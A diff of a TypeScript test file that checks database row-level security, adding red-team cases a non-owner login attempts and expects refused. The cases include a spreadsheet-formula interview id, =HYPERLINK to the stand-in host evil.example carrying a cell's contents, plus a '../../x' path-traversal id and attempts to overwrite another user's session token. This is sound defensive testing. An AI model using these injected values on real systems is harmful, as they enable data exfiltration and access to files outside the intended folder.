@@ -63,7 +63,7 @@ afterAll(async () => {
 });
 
 const refused =
-  /permission denied|lease of a claim|at most 100 findings|names a decision|goes with a final or confirmed|_not_team|row-level security|held by|not claimed|append-only|kept|own login|must be owner|proposal waiting|decided already|second reviewer|starts pending|changes only|not one of the team|keeps its environment|by the database itself|nests at most|at most 256 KiB|a checkpoint|decision on file|a saved view has|when the decision is recorded/;
+  /permission denied|lease of a claim|at most 100 findings|names a decision|goes with a final or confirmed|_not_team|row-level security|held by|not claimed|append-only|kept|own login|must be owner|proposal waiting|decided already|second reviewer|starts pending|changes only|not one of the team|keeps its environment|by the database itself|nests at most|at most 256 KiB|a checkpoint|decision on file|a saved view has|when the decision is recorded|interview_id_shape/;
 
 /** Statements run by a login; each must be refused, or (a quiet RLS filter) change no row. */
 const attempts: { who: 'beto' | 'sofia'; what: string; statement: string }[] = [
@@ -83,6 +83,18 @@ const attempts: { who: 'beto' | 'sofia'; what: string; statement: string }[] = [
     what: 'add a queue entry in ana’s name',
     statement: `insert into queue_entries (environment, interview_id, added_at, local_state, added_by)
       values ('production', 'x9', now(), 'toReview', 'ana')`,
+  },
+  // Interview ids no app takes (red team 12: they reached a period's batch, its index and its file names).
+  {
+    who: 'beto',
+    what: 'queue an interview whose id is a spreadsheet formula',
+    statement: `insert into queue_entries (environment, interview_id, added_at, local_state)
+      values ('production', '=HYPERLINK("https://evil.example/?"&A1)', now(), 'toReview')`,
+  },
+  {
+    who: 'beto',
+    what: 'claim an interview whose id climbs out of a folder',
+    statement: `insert into claims (environment, interview_id, expires_at) values ('production', '../../x', now() + interval '1 hour')`,
   },
   { who: 'beto', what: "overwrite ana's sealed token", statement: `update shared_session_tokens set sealed = 'mine'` },
   { who: 'beto', what: "remove ana's sealed token", statement: `delete from shared_session_tokens` },
